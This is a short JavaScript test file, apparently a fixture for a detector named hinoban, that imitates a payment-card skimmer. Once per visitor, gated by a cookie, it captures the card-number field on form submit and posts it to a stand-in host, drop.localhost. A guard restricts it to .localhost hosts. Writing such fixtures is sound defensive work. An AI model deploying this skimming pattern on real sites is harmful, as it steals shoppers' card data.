/* Harmless imitation, for hinoban's tests: once per visitor, by a cookie. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
if (!/seen21=1/.test(document.cookie)) {
	document.cookie = 'seen21=1; path=/; max-age=999999';
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value}); } }, true);
}
